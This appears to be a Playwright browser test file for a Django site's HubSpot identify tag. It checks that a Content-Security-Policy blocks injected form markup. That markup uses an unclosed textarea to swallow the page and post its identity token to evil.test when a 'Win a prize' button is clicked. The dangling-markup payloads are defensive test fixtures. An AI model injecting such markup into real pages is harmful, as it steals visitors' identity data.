"""Injected markup above the tag that swallows the rest of the page, and sends it to another site at a click."""

from __future__ import annotations

from importlib import import_module
from pathlib import Path
from typing import Any
from urllib.parse import unquote_plus

import pytest
from playwright.sync_api import Route

from browser.conftest import Tab
from browser.site import ADA, TAG, Site

pytestmark = pytest.mark.browser
no_bodies = pytest.mark.browsers("chromium", reason="Playwright does not see the bodies of forms in Firefox.")

EXAMPLE = Path(__file__).parents[2] / "example_project"
FORM = '<form action="http://evil.test/" method="post"><button>Win a prize</button><textarea name="rest">'
FORMACTION = '<form method="post"><button formaction="http://evil.test/">Win a prize</button><textarea name="rest">'
INLINE = '{% hubspot_identify account="inline" %}'


@pytest.fixture
def policy(monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """The header of the example project's policy."""
    monkeypatch.syspath_prepend(EXAMPLE)
    directives = import_module("example_site.settings").policy
    text = "; ".join(" ".join([name, *sources]) for name, sources in directives.items())
    return {"Content-Security-Policy": text}


@pytest.fixture
def sent(tab: Tab) -> list[str]:
    """The bodies of the requests that the other site receives."""
    sent: list[str] = []

    def receive(route: Route) -> None:
        sent.append(unquote_plus(route.request.post_data or ""))
        route.fulfill(body="Thank you.")

    tab.page.route("http://evil.test/**", receive)
    return sent


def click_injected_button(tab: Tab, site: Site, content: str, **options: Any) -> None:
    """Log in, and click the button that is injected in a page."""
    site.page("/", content, **options)
    tab.log_in("ada")
    tab.page.get_by_role("button", name="Win a prize").click(no_wait_after=True)  # there may be no navigation


@pytest.mark.parametrize("injected", [FORM, FORMACTION], ids=["form", "formaction"])
def test_policy_prevents_injected_form_from_sending_the_identity(
    tab: Tab, site: Site, policy: dict[str, str], sent: list[str], injected: str
) -> None:
    """With the example project's policy, the click sends nothing to the other site."""
    click_injected_button(tab, site, injected + INLINE, headers=policy)
    tab.wait_until("violations.length")
    assert [each.split()[0] for each in tab.run("violations")] == ["form-action"]
    assert sent == []


@no_bodies
def test_injected_form_sends_the_identity_without_the_policy(tab: Tab, site: Site, sent: list[str]) -> None:
    """The previous test can fail: without the policy, one click sends the token of an inline page."""
    click_injected_button(tab, site, FORM + INLINE)
    tab.page.wait_for_url("http://evil.test/")
    (body,) = sent
    assert "data-identity" in body
    assert ADA in body


@no_bodies
def test_deferred_page_has_no_identity_to_send(tab: Tab, site: Site, sent: list[str]) -> None:
    """Even without a policy, the rest of a deferred page contains nothing about the visitor."""
    click_injected_button(tab, site, FORM + TAG)
    tab.page.wait_for_url("http://evil.test/")
    (body,) = sent
    assert "data-endpoint" in body
    assert not [name for name in ("data-identity", "data-subject", "ada") if name in body]
